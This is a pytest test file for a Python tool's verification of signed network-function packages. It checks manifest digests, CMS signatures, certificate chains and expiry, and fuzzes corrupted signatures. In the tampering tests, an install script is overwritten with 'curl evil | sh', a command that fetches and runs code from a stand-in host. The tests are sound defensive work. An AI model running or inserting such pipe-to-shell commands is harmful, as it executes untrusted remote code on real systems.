"""SOL004 signatures end to end: packages signed here with a throwaway CA.

A root CA and an intermediate issue the signers; an expired signer, a signer that is not valid
yet, and a self-signed stranger complete the cast.  Signatures are made with ``cryptography``'s
``PKCS7SignatureBuilder`` (detached, DER or PEM) and verified by netorch's own CMS reader.
"""

from __future__ import annotations

import base64
import contextlib
import hashlib
import zipfile
from collections.abc import Iterator
from contextlib import ExitStack
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from cryptography import x509
from cryptography.exceptions import InvalidSignature
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, padding, rsa
from cryptography.hazmat.primitives.serialization import pkcs7
from cryptography.x509.oid import NameOID
from hypothesis import given, settings
from hypothesis import strategies as st

from netorch.model.diagnostics import Diagnostic, Severity
from netorch.tosca import load
from netorch.tosca.csar import open_source
from netorch.tosca.sol004 import cms, trust
from netorch.tosca.sol004.policy import PackagePolicy
from netorch.tosca.sol004.verify import verify_package

NOW = datetime.now(UTC)
Key = ec.EllipticCurvePrivateKey | rsa.RSAPrivateKey


@dataclass(frozen=True)
class Identity:
    cert: x509.Certificate
    key: Key


def _name(cn: str) -> x509.Name:
    return x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, cn),
                      x509.NameAttribute(NameOID.ORGANIZATION_NAME, "netorch tests")])


def issue(cn: str, issuer: Identity | None, *, ca: bool = False, key: Key | None = None,
          not_before: datetime = NOW - timedelta(days=1),
          not_after: datetime = NOW + timedelta(days=30)) -> Identity:
    key = key or ec.generate_private_key(ec.SECP256R1())
    builder = (x509.CertificateBuilder()
               .subject_name(_name(cn))
               .issuer_name(issuer.cert.subject if issuer else _name(cn))
               .public_key(key.public_key())
               .serial_number(x509.random_serial_number())
               .not_valid_before(not_before).not_valid_after(not_after)
               .add_extension(x509.BasicConstraints(ca=ca, path_length=None), critical=True)
               .add_extension(x509.KeyUsage(
                   digital_signature=not ca, content_commitment=False, key_encipherment=False,
                   data_encipherment=False, key_agreement=False, key_cert_sign=ca,
                   crl_sign=ca, encipher_only=False, decipher_only=False), critical=True))
    signing_key = issuer.key if issuer else key
    return Identity(builder.sign(signing_key, hashes.SHA256()), key)


@dataclass(frozen=True)
class Pki:
    root: Identity
    intermediate: Identity
    signer: Identity
    rsa_signer: Identity
    expired: Identity
    not_yet_valid: Identity
    stranger: Identity
    leaf_issued: Identity
    """Issued by ``signer``, which is not a CA."""


@pytest.fixture(scope="module")
def pki() -> Pki:
    root = issue("netorch test root", None, ca=True, not_before=NOW - timedelta(days=60))
    intermediate = issue("netorch test intermediate", root, ca=True)
    signer = issue("vendor signer", intermediate)
    rsa_signer = issue("vendor rsa signer", root,
                       key=rsa.generate_private_key(public_exponent=65537, key_size=2048))
    expired = issue("expired signer", root, not_before=NOW - timedelta(days=30),
                    not_after=NOW - timedelta(days=1))
    not_yet = issue("future signer", root, not_before=NOW + timedelta(days=1),
                    not_after=NOW + timedelta(days=30))
    stranger = issue("stranger", None)
    leaf_issued = issue("issued by a leaf", signer)
    return Pki(root, intermediate, signer, rsa_signer, expired, not_yet, stranger, leaf_issued)


@pytest.fixture
def anchors(pki: Pki, tmp_path: Path) -> Path:
    path = tmp_path / "anchors" / "root.pem"
    path.parent.mkdir()
    path.write_bytes(pki.root.cert.public_bytes(serialization.Encoding.PEM))
    return path.parent


def pem(cert: x509.Certificate) -> bytes:
    return cert.public_bytes(serialization.Encoding.PEM)


def sign(data: bytes, who: Identity, *, extra: tuple[x509.Certificate, ...] = (),
         encoding: serialization.Encoding = serialization.Encoding.PEM,
         attributes: bool = True, include_certs: bool = True,
         algorithm: hashes.HashAlgorithm | None = None,
         rsa_padding: padding.PSS | padding.PKCS1v15 | None = None) -> bytes:
    builder = pkcs7.PKCS7SignatureBuilder().set_data(data).add_signer(
        who.cert, who.key, algorithm or hashes.SHA256(),  # type: ignore[arg-type]
        rsa_padding=rsa_padding)
    for cert in extra:
        builder = builder.add_certificate(cert)
    options = [pkcs7.PKCS7Options.DetachedSignature, pkcs7.PKCS7Options.Binary]
    if not attributes:
        options.append(pkcs7.PKCS7Options.NoAttributes)
    if not include_certs:
        options.append(pkcs7.PKCS7Options.NoCerts)
    return builder.sign(encoding, options)


ENTRY = ("tosca_definitions_version: tosca_simple_yaml_1_3\n"
         "topology_template:\n  node_templates:\n    vm:\n      type: tosca.nodes.Compute\n")
FILES = {"Definitions/main.yaml": ENTRY, "ChangeLog.txt": "1.0\n", "Licenses/LICENSE": "MIT\n",
         "Scripts/install.sh": "echo install\n", "Files/images/vm.qcow2": "QFI\xfb image\n"}
META = ("TOSCA-Meta-File-Version: 1.0\nCSAR-Version: 1.1\nCreated-By: tests\n"
        "Entry-Definitions: Definitions/main.yaml\nETSI-Entry-Manifest: vnf.mf\n"
        "ETSI-Entry-Change-Log: ChangeLog.txt\nETSI-Entry-Licenses: Licenses\n")
METADATA = ("metadata:\nvnf_provider_id: ACME\nvnf_product_name: vFW\n"
            "vnf_release_date_time: 2024-01-31T10:00:00Z\nvnf_package_version: 1.0\n")


def manifest_body(root: Path, artifact_extra: dict[str, str] | None = None) -> str:
    artifact_extra = artifact_extra or {}
    blocks = [METADATA]
    for path in sorted(p for p in root.rglob("*") if p.is_file()):
        rel = path.relative_to(root).as_posix()
        if rel == "vnf.mf" or rel.endswith((".cms", ".cert", ".pem")):
            continue
        hashed = hashlib.sha256(path.read_bytes()).hexdigest()
        blocks.append(f"Source: {rel}\nAlgorithm: SHA-256\nHash: {hashed}\n"
                      + artifact_extra.get(rel, ""))
    return "\n".join(blocks)


def build(root: Path, meta: str = META) -> Path:
    root.mkdir(parents=True)
    for name, text in {**FILES, "TOSCA-Metadata/TOSCA.meta": meta}.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(text, encoding="latin-1")
    return root


def signed_package(root: Path, who: Identity, *, extra: tuple[x509.Certificate, ...] = (),
                   include_certs: bool = True, meta: str = META,
                   artifact_extra: dict[str, str] | None = None, **options: object) -> Path:
    """A package whose manifest carries a CMS block (security option 1)."""
    if not root.exists():
        build(root, meta)
    body = manifest_body(root, artifact_extra).rstrip() + "\n"
    signature = sign(body.encode(), who, extra=extra, include_certs=include_certs,
                     **options)  # type: ignore[arg-type]
    block = signature.decode().replace("PKCS7-----", "CMS-----")
    (root / "vnf.mf").write_text(body + "\n" + block)
    return root


def verify(path: Path, policy: PackagePolicy) -> list[Diagnostic]:
    with ExitStack() as stack:
        src, found = open_source(path, stack)
        assert src is not None, found
        return verify_package(src, policy)


def codes(diags: list[Diagnostic], severity: Severity = Severity.ERROR) -> list[str]:
    return [d.code for d in diags if d.severity is severity]


@pytest.fixture
def policy(anchors: Path) -> PackagePolicy:
    return PackagePolicy(trust_anchors=(anchors,), require_signature=True, strict=True)


# -- option 1: the signed manifest --------------------------------------------------------------
def test_a_signed_package_verifies_and_loads(tmp_path: Path, pki: Pki,
                                             policy: PackagePolicy) -> None:
    root = signed_package(tmp_path / "p", pki.signer, extra=(pki.intermediate.cert,))
    assert verify(root, policy) == []
    model, diags = load(root, security=policy)
    assert diags == [] and model is not None


def test_tampered_artifact_is_caught_by_the_signed_digest(tmp_path: Path, pki: Pki,
                                                          policy: PackagePolicy) -> None:
    root = signed_package(tmp_path / "p", pki.signer, extra=(pki.intermediate.cert,))
    (root / "Scripts/install.sh").write_text("curl evil | sh\n")
    diags = verify(root, policy)
    assert codes(diags) == ["sol004.digest_mismatch"]
    assert "Scripts/install.sh" in diags[0].message


def test_tampered_manifest_breaks_the_signature(tmp_path: Path, pki: Pki,
                                                policy: PackagePolicy) -> None:
    root = signed_package(tmp_path / "p", pki.signer, extra=(pki.intermediate.cert,))
    (root / "Scripts/install.sh").write_text("curl evil | sh\n")
    manifest = root / "vnf.mf"
    old = hashlib.sha256(b"echo install\n").hexdigest()
    new = hashlib.sha256(b"curl evil | sh\n").hexdigest()
    manifest.write_text(manifest.read_text().replace(old, new))
    diags = verify(root, policy)
    assert codes(diags) == ["sol004.signature_invalid"]
    lines = manifest.read_text().splitlines()
    assert lines[diags[0].line - 1] == "-----BEGIN CMS-----"
    assert "changed after signing" in diags[0].message


def test_untrusted_signer(tmp_path: Path, pki: Pki, policy: PackagePolicy) -> None:
    root = signed_package(tmp_path / "p", pki.stranger)
    diags = verify(root, policy)
    assert codes(diags) == ["sol004.untrusted_certificate"]
    assert "stranger" in diags[0].message


def test_missing_intermediate_is_untrusted(tmp_path: Path, pki: Pki,
                                           policy: PackagePolicy) -> None:
    root = signed_package(tmp_path / "p", pki.signer)
    assert codes(verify(root, policy)) == ["sol004.untrusted_certificate"]


def test_a_leaf_cannot_act_as_a_ca(tmp_path: Path, pki: Pki, policy: PackagePolicy) -> None:
    root = signed_package(tmp_path / "p", pki.leaf_issued,
                          extra=(pki.signer.cert, pki.intermediate.cert))
    assert codes(verify(root, policy)) == ["sol004.untrusted_certificate"]


def test_expired_and_not_yet_valid_certificates(tmp_path: Path, pki: Pki,
                                                policy: PackagePolicy) -> None:
    root = signed_package(tmp_path / "old", pki.expired)
    diags = verify(root, policy)
    assert codes(diags) == ["sol004.certificate_expired"]
    assert "expired on" in diags[0].message
    future = signed_package(tmp_path / "future", pki.not_yet_valid)
    diags = verify(future, policy)
    assert codes(diags) == ["sol004.certificate_expired"]
    assert "not valid before" in diags[0].message
    then = PackagePolicy(trust_anchors=policy.trust_anchors, require_signature=True,
                         check_time=NOW - timedelta(days=10))
    assert verify(root, then) == []


def test_unsigned_package_under_require_signature(tmp_path: Path, policy: PackagePolicy) -> None:
    root = build(tmp_path / "p")
    (root / "vnf.mf").write_text(manifest_body(root))
    assert codes(verify(root, policy)) == ["sol004.signature_missing"]
    lenient = PackagePolicy(trust_anchors=policy.trust_anchors)
    assert verify(root, lenient) == []


def test_each_failure_has_its_own_code(tmp_path: Path, pki: Pki, policy: PackagePolicy) -> None:
    tampered = signed_package(tmp_path / "t", pki.signer, extra=(pki.intermediate.cert,))
    (tampered / "vnf.mf").write_text((tampered / "vnf.mf").read_text()
                                     .replace("vnf_product_name: vFW", "vnf_product_name: X"))
    results = {
        "tampered": codes(verify(tampered, policy)),
        "untrusted": codes(verify(signed_package(tmp_path / "u", pki.stranger), policy)),
        "expired": codes(verify(signed_package(tmp_path / "e", pki.expired), policy)),
    }
    unsigned = build(tmp_path / "n")
    (unsigned / "vnf.mf").write_text(manifest_body(unsigned))
    results["unsigned"] = codes(verify(unsigned, policy))
    assert results == {"tampered": ["sol004.signature_invalid"],
                       "untrusted": ["sol004.untrusted_certificate"],
                       "expired": ["sol004.certificate_expired"],
                       "unsigned": ["sol004.signature_missing"]}


def test_certificate_from_etsi_entry_certificate(tmp_path: Path, pki: Pki,
                                                 policy: PackagePolicy) -> None:
    meta = META + "ETSI-Entry-Certificate: Files/signer.cert\n"
    root = build(tmp_path / "p", meta)
    (root / "Files/signer.cert").write_bytes(pem(pki.signer.cert) + pem(pki.intermediate.cert))
    signed_package(root, pki.signer, include_certs=False, meta=meta)
    assert verify(root, policy) == []
    (root / "Files/signer.cert").write_bytes(pem(pki.stranger.cert))
    diags = verify(root, policy)
    assert codes(diags) == ["sol004.certificate_missing"]


def test_certificate_beside_the_manifest(tmp_path: Path, pki: Pki, policy: PackagePolicy) -> None:
    root = build(tmp_path / "p")
    (root / "vnf.cert").write_bytes(pem(pki.rsa_signer.cert))
    signed_package(root, pki.rsa_signer, include_certs=False)
    assert verify(root, policy) == []


@pytest.mark.parametrize("variant", ["rsa-pkcs1", "rsa-pss", "ecdsa-sha384", "no-attributes",
                                     "der"])
def test_signature_variants(tmp_path: Path, pki: Pki, policy: PackagePolicy,
                            variant: str) -> None:
    who, options = pki.signer, {}
    extra: tuple[x509.Certificate, ...] = (pki.intermediate.cert,)
    if variant.startswith("rsa"):
        who, extra = pki.rsa_signer, ()
        if variant == "rsa-pss":
            options["rsa_padding"] = padding.PSS(padding.MGF1(hashes.SHA256()),
                                                 padding.PSS.DIGEST_LENGTH)
    elif variant == "ecdsa-sha384":
        options["algorithm"] = hashes.SHA384()
    elif variant == "no-attributes":
        options["attributes"] = False
    if variant == "der":
        root = build(tmp_path / "p")
        body = manifest_body(root).rstrip() + "\n"
        der = sign(body.encode(), who, extra=extra, encoding=serialization.Encoding.DER)
        lines = base64.encodebytes(der).decode()
        (root / "vnf.mf").write_text(f"{body}\n-----BEGIN CMS-----\n{lines}-----END CMS-----\n")
    else:
        root = signed_package(tmp_path / "p", who, extra=extra, **options)
    assert verify(root, policy) == []
    manifest = root / "vnf.mf"
    manifest.write_text(manifest.read_text().replace("ACME", "ACNE"))
    assert codes(verify(root, policy)) == ["sol004.signature_invalid"]


def test_signature_over_the_manifest_as_written(tmp_path: Path, pki: Pki,
                                                policy: PackagePolicy) -> None:
    """Trailing blank lines before the CMS block do not matter; any other byte does."""
    root = build(tmp_path / "p")
    body = manifest_body(root) + "\n\n"
    block = sign(body.encode(), pki.rsa_signer).decode()
    (root / "vnf.mf").write_text(body + block)
    assert verify(root, policy) == []


def test_signer_problems_are_warnings_without_anchors(tmp_path: Path, pki: Pki) -> None:
    root = signed_package(tmp_path / "p", pki.stranger)
    diags = verify(root, PackagePolicy())
    assert [(d.code, d.severity) for d in diags] == [
        ("sol004.untrusted_certificate", Severity.WARNING)]
    assert "no trust anchors" in diags[0].message


def test_unreadable_trust_anchor_is_reported(tmp_path: Path, pki: Pki) -> None:
    bad = tmp_path / "bad.pem"
    bad.write_text("not a certificate")
    root = signed_package(tmp_path / "p", pki.stranger)
    diags = verify(root, PackagePolicy(trust_anchors=(bad, tmp_path / "absent")))
    assert sorted(codes(diags)) == ["sol004.trust_anchor_invalid",
                                    "sol004.trust_anchor_invalid",
                                    "sol004.untrusted_certificate"]


def test_garbage_signature_block(tmp_path: Path, pki: Pki, policy: PackagePolicy) -> None:
    root = signed_package(tmp_path / "p", pki.signer, extra=(pki.intermediate.cert,))
    manifest = root / "vnf.mf"
    text = manifest.read_text()
    head, _, _ = text.partition("-----BEGIN CMS-----")
    manifest.write_text(head + "-----BEGIN CMS-----\nTUlJQg==\n-----END CMS-----\n")
    diags = verify(root, policy)
    assert codes(diags) == ["sol004.signature_invalid"]
    assert "cannot be read" in diags[0].message


# -- per-artifact signatures --------------------------------------------------------------------
def test_per_artifact_signature_and_certificate(tmp_path: Path, pki: Pki,
                                                policy: PackagePolicy) -> None:
    root = build(tmp_path / "p")
    image = root / "Files/images/vm.qcow2"
    (root / "Files/images/vm.qcow2.sig.cms").write_bytes(
        sign(image.read_bytes(), pki.rsa_signer, encoding=serialization.Encoding.DER,
             include_certs=False))
    (root / "Files/images/vm.qcow2.cert").write_bytes(pem(pki.rsa_signer.cert))
    extra = {"Files/images/vm.qcow2": "Signature: Files/images/vm.qcow2.sig.cms\n"
                                      "Certificate: Files/images/vm.qcow2.cert\n"}
    signed_package(root, pki.signer, extra=(pki.intermediate.cert,), artifact_extra=extra)
    assert verify(root, policy) == []
    image.write_bytes(b"QFI\xfb evil image\n")
    assert sorted(codes(verify(root, policy))) == ["sol004.digest_mismatch",
                                                   "sol004.signature_invalid"]


def test_artifact_signature_beside_the_artifact_uses_package_certificates(
        tmp_path: Path, pki: Pki, policy: PackagePolicy) -> None:
    root = build(tmp_path / "p")
    script = root / "Scripts/install.sh"
    (root / "Scripts/install.sh.sig.cms").write_bytes(
        sign(script.read_bytes(), pki.signer, include_certs=False, attributes=False))
    signed_package(root, pki.signer, extra=(pki.intermediate.cert,))
    assert verify(root, policy) == []
    (root / "Scripts/install.sh.sig.cms").write_bytes(
        sign(b"something else\n", pki.signer, include_certs=False))
    diags = verify(root, policy)
    assert codes(diags) == ["sol004.signature_invalid"]
    assert "Scripts/install.sh" in diags[0].message


# -- option 2: the signed CSAR ------------------------------------------------------------------
def zip_dir(root: Path, archive: Path) -> Path:
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as zf:
        for path in sorted(root.rglob("*")):
            if path.is_file():
                zf.write(path, path.relative_to(root).as_posix())
    return archive


@pytest.fixture
def signed_csar(tmp_path: Path, pki: Pki) -> Iterator[tuple[Path, Path]]:
    root = build(tmp_path / "inner")
    (root / "vnf.mf").write_text(manifest_body(root))
    csar = zip_dir(root, tmp_path / "vnf.csar")
    outer_dir = tmp_path / "outer"
    outer_dir.mkdir()
    (outer_dir / "vnf.csar").write_bytes(csar.read_bytes())
    (outer_dir / "vnf.cms").write_bytes(sign(csar.read_bytes(), pki.signer, include_certs=False,
                                             encoding=serialization.Encoding.DER))
    (outer_dir / "vnf.cert").write_bytes(pem(pki.signer.cert) + pem(pki.intermediate.cert))
    yield outer_dir, zip_dir(outer_dir, tmp_path / "delivery.zip")


def test_signed_csar_verifies(signed_csar: tuple[Path, Path], policy: PackagePolicy) -> None:
    outer_dir, delivery = signed_csar
    assert verify(delivery, policy) == []
    model, diags = load(delivery, security=policy)
    assert diags == [] and model is not None
    assert model.source.endswith("delivery.zip!/vnf.csar!/Definitions/main.yaml")
    assert verify(outer_dir, policy) == []


def test_tampered_signed_csar(signed_csar: tuple[Path, Path], pki: Pki,
                              policy: PackagePolicy, tmp_path: Path) -> None:
    outer_dir, _ = signed_csar
    csar = outer_dir / "vnf.csar"
    with zipfile.ZipFile(csar, "a") as zf:
        zf.writestr("Files/extra.txt", "smuggled\n")
    diags = verify(outer_dir, policy)
    assert "sol004.signature_invalid" in codes(diags)
    assert any(d.file == str(outer_dir / "vnf.cms") for d in diags)


@settings(max_examples=300, deadline=None)
@given(edits=st.lists(st.tuples(st.integers(min_value=0), st.integers(0, 255)), min_size=1,
                      max_size=4),
       cut=st.one_of(st.none(), st.integers(min_value=0)))
def test_corrupted_signatures_only_ever_fail_cleanly(pki: Pki, edits: list[tuple[int, int]],
                                                     cut: int | None) -> None:
    """Flipped or truncated bytes anywhere in a CMS signature (its certificates included) give a
    CmsError or a failed verification, never another exception."""
    data = b"manifest text\n"
    original = _fuzz_signature(pki, data)
    mutated = bytearray(original)
    for position, value in edits:
        mutated[position % len(mutated)] = value
    if cut is not None:
        mutated = mutated[:cut % len(mutated)]
    try:
        signed = cms.parse(bytes(mutated))
    except cms.CmsError:
        return
    for signer in signed.signers:
        cert = cms.find_signer_certificate(signer, signed.certificates) or pki.signer.cert
        with contextlib.suppress(cms.CmsError, InvalidSignature):
            cms.verify_signer(signed, signer, cert, data)
        for candidate in signed.certificates:
            with contextlib.suppress(ValueError):
                trust.check_signer(candidate, signed.certificates, [pki.root.cert], NOW)


_FUZZ_CACHE: dict[int, bytes] = {}


def _fuzz_signature(pki: Pki, data: bytes) -> bytes:
    key = id(pki)
    if key not in _FUZZ_CACHE:
        _FUZZ_CACHE[key] = sign(data, pki.signer, extra=(pki.intermediate.cert,),
                                encoding=serialization.Encoding.DER)
    return _FUZZ_CACHE[key]
